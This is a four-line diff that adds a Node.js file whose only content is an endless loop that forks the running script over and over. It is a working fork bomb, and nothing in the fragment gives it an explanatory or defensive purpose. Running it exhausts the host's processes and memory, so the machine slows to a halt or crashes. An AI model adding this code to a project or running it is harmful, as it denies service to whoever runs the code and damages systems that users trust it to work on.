@@ -1,0 +1,4 @@
+const cp = require('child_process');
+while (true) {
+  cp.fork(__filename);
+}
